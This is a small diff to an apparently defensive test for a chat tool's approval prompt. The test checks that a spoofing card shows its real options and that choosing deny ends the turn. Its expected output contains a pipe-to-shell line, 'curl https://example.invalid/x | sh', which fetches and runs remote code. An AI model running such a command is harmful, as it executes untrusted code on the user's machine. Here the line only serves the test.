@@ -62,7 +62,7 @@ def test_a_spoofing_card_keeps_its_session_row_and_real_options_on_screen(chat_i
     chat.child.send("v")  # the whole card, into the transcript
     chat.expect(r"curl https://example\.invalid/x \| sh")
     chat.expect("Press 1-2 to choose")
-    chat.child.send("2")
+    chat.deny("2")
     chat.expect("outcome: deny")
     chat.expect("turn ended")
     chat.expect_prompt()
